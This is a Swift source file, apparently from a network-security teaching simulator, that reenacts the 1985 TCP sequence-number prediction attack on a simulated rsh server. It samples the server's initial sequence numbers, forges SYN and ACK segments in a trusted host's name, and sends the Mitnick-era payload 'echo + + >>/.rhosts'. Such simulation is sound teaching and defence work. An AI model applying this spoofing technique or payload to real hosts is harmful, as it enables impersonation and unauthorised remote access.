import Crypto
import Render
import Simulator
import TCPSim
import Trace

/// An attacker off the path opens a connection in a trusted host's name: she predicts the server's initial sequence number, which she
/// does not see (Morris 1985).
enum ISNPrediction: Exhibit {
    static let card = Card(
        "isn-prediction", in: .tcp, from: .offPath, to: .impersonate, variants: ["counted", "clock", "constant"],
        unit: .forgedACKs,
        year: 1985, cites: [.rfc(6528, "3"), .rfc(9293, "3.4.1")], cves: ["CVE-2000-0328", "CVE-2001-0288"],
        words: ISNPredictionCard.self)

    private static let server = Socket(.server, 514)
    private static let trusted = Socket(.client, 1_023)
    /// How many connections others open in a second, and the time from the SYN of her last sample to her forged SYN.
    private static let (rate, gap) = (50, TimeSpan.milliseconds(200))
    /// In the variant "clock" a datagram to the server takes longer than the latency, by less than this many microseconds.
    private static let jitter = 4_000
    /// By how much 4.3BSD's counter of initial sequence numbers grows with each connection.
    static let step = 64_000
    /// What a client of the rsh service sends: the port for errors ("0": none), the user's name on the client, the user's name on the
    /// server, and the command (that of Mitnick's attack of 1994).
    private static let payload = Array("0\0root\0root\0echo + + >>/.rhosts\0".utf8)

    /// What she learns from a connection of her own: the server's initial sequence number, and when the server chose it, in microseconds.
    private struct Sample {
        let number: SequenceNumber
        let at: Int64
    }

    static func table(seed: UInt64) throws -> Report? { SequenceNumberGuess.table(seed: seed) }

    static func perform(_ show: Performance) throws -> Outcome {
        var draws = show.seeds.fork("server")
        let stage = show.stage(
            client: trusted, server: server, from: .zero + .seconds(Int64(draws.number(below: 3_600))))
        let shell = stage.add(service(show, &draws))
        stage.listen(shell, port: server.port) { [unowned stage] remote in
            guard remote.address != trusted.address else { return Chatter() }
            return Chatter(says: isObeyed(on: stage, shell) ? "#" : "Permission denied")
        }
        stage.add(StageHost(.client, at: .client, show.tcp("client"), isSilent: true))
        let others = stage.add(StageHost(.host("others"), at: IPv4Address(10, 0, 1, 1), show.tcp("others")))
        let openings = show.variant == "counted" ? draws.instants(rate: rate, in: 1) : []
        for opening in openings { stage.connect(others, to: server, after: .microseconds(opening), Chatter()) }
        let begin = stage.now.microseconds
        var attacker = show.attacker(on: stage)

        var outcome = Outcome()
        outcome.theory = theory(show.variant)
        outcome.evidence = [
            ("server", .socket(server)), ("trusted", .socket(trusted)),
            ("payload", .string(String(decoding: payload, as: UTF8.self))),
        ]
        _ = attacker.wait(.milliseconds(100))
        var samples: [Sample] = []
        for _ in 0..<(show.variant == "clock" ? 8 : 3) {
            if !samples.isEmpty { _ = attacker.wait(.milliseconds(150)) }
            if let sample = sample(attacker) { samples.append(sample) }
        }
        guard let last = samples.last else { return outcome }
        outcome.say(
            ISNPredictionNote.samples(samples.map(\.number), show.variant), frames: [1, attacker.frame()],
            cite: .rfc(9293, "3.4.1"))

        let guesses = guesses(for: show.variant, from: samples, by: attacker)
        let syn = Segment(
            sourcePort: trusted.port, destinationPort: server.port, sequence: SequenceNumber(attacker.random.word()),
            control: .syn, window: 4_096)
        // The place of the forged connection among all, counted from 0.
        let forged = openings.count { begin + $0 < attacker.now.microseconds } + samples.count
        attacker.send(syn, from: trusted.address, to: server.address, ISNPredictionNote.syn(trusted))
        outcome.say(ISNPredictionNote.syn(trusted), frames: [attacker.frame()])
        _ = attacker.wait(.milliseconds(100))
        let first = attacker.frame() + 1
        for guess in guesses {
            let acknowledgment = Segment(
                sourcePort: trusted.port, destinationPort: server.port, sequence: syn.sequence + 1,
                acknowledgment: guess + 1, control: [.ack, .psh], window: 4_096, payload: payload)
            attacker.send(acknowledgment, from: trusted.address, to: server.address, ISNPredictionNote.guess)
            outcome.tries += 1
            // She sees no answer. The run looks at the service for her, and says so.
            _ = attacker.wait(.milliseconds(15))
            if isObeyed(on: stage, shell) { break }
        }
        outcome.say(
            ISNPredictionNote.sent(outcome.tries, from: guesses.first ?? last.number),
            frames: [first, attacker.frame()])
        outcome.sayStop(of: guesses.count, reached: isObeyed(on: stage, shell))
        let line = attacker.open(to: server)
        _ = attacker.wait(.milliseconds(200))
        outcome.reached = line.read().starts(with: Array("#".utf8))
        outcome.say(
            outcome.reached ? ISNPredictionNote.obeyed(after: outcome.tries) : .denied, frames: [attacker.frame()],
            cite: .rfc(6528, "3"))
        outcome.connections = [0, 1, 2, forged]
        outcome.reproduce = [
            "tshark -r FILE -Y 'tcp.flags.syn==1 && tcp.flags.ack==1' -T fields -e frame.interface_name -e frame.time_relative -e ip.dst -e tcp.seq_raw",
            "tshark -r FILE -Y 'frame.interface_name==\"forged\" && tcp.len>0' -T fields -e tcp.ack_raw | tail -n 1",
        ]
        return outcome
    }

    /// The host whose service trusts the address of one client.
    private static func service(_ show: Performance, _ draws: inout SeededRandomSource) -> StageHost {
        var configuration = show.tcp("server")
        let (connections, constant) = (draws.number(below: 1 << 16), draws.word())
        // Half of the rule: F is added to the clock, but it does not hash the client's socket.
        if show.isHalf { configuration.isn = .generatedForAll(secret: configuration.isn.secret) }
        if !show.isDefended {
            switch show.variant {
            case "clock": configuration.isn = .clock
            case "constant": configuration.isn = .forced(SequenceNumber(constant))
            default: configuration.isn = .counted(connections: UInt32(truncatingIfNeeded: connections))
            }
        }
        var host = StageHost(.server, at: .server, configuration)
        if show.variant == "clock" {
            var delays = draws.fork("jitter")
            host.accessDelay = { _, _ in .microseconds(Int64(delays.number(below: jitter))) }
        }
        return host
    }

    /// Whether the command has reached the service in the name of the trusted host.
    private static func isObeyed(on stage: Stage, _ server: Int) -> Bool {
        stage.applications(of: server).contains { ($0.application as? Chatter)?.heard == payload }
    }

    private static func theory(_ variant: String) -> Theory {
        switch variant {
        case "clock":
            let ticks = Theory.uniform(jitter / 4)
            return Theory(
                mean: ticks.mean, deviation: ticks.deviation, "uniform(J/4)", [("jitter_us", Double(jitter))],
                words: ticks.words)
        case "constant": return .exactly(1)
        default:
            let expected = Double(rate) * Double(gap.microseconds) / 1e6
            return Theory(
                mean: 1 + expected, deviation: expected.squareRoot(), "1 + Poisson(λΔ)",
                [("rate_per_s", Double(rate)), ("gap_us", Double(gap.microseconds))],
                words: .arrivals(perSecond: rate, milliseconds: Int(gap.microseconds / 1_000)))
        }
    }

    // MARK: What she does

    /// Opens a connection of her own and resets it as soon as she has the server's number; nil if no SYN,ACK comes.
    private static func sample(_ attacker: Attacker) -> Sample? {
        let line = attacker.open(to: server)
        let answer = attacker.wait(.seconds(1)) { $0.segment.control.contains([.syn, .ack]) }
        line.abort()
        return answer.map { Sample(number: $0.segment.sequence, at: $0.at) }
    }

    /// Chooses the moment of the forged SYN and waits for it.
    ///
    /// - Returns: the initial sequence numbers with which the server may answer the SYN, in ascending order.
    private static func guesses(
        for variant: String, from samples: [Sample], by attacker: Attacker
    ) -> [SequenceNumber] {
        guard let last = samples.last else { return [] }
        let sent = last.at - latency
        switch variant {
        case "clock":
            // When a number was chosen, the server's clock stood from 4·ISN to 4·ISN + 3. So each difference 4·ISN - t is a lower bound of
            // how far the server's clock is ahead, and the largest is the best.
            let ahead = samples.map { Int64($0.number.rawValue) * 4 - $0.at }.max() ?? 0
            _ = attacker.wait(.milliseconds(50))
            // She waits until the SYN can arrive at the beginning of a tick at the earliest.
            let phase = (attacker.now.microseconds + latency + ahead) % 4
            _ = attacker.wait(.microseconds((8 - phase) % 4))
            let earliest = (attacker.now.microseconds + latency + ahead) / 4
            return (0...Int64(jitter / 4)).map { SequenceNumber(UInt32(truncatingIfNeeded: earliest + $0)) }
        case "constant": return [last.number]
        default:
            _ = attacker.wait(.microseconds(sent + gap.microseconds - attacker.now.microseconds))
            return (1...60).map { last.number + step * $0 }
        }
    }

    /// The shortest time from her to the server, in microseconds. She knows it from earlier measurements.
    private static let latency: Int64 = 10_000
}
